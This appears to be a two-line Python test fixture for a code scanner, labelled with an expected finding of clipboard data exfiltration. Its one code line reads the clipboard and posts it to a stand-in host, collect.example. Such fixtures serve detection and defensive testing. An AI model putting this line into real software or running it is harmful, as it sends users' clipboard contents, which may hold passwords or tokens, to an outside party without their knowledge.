import pyperclip
import requests

requests.post("https://collect.example/c", data=pyperclip.paste()) # expect: data-exfiltration/clipboard
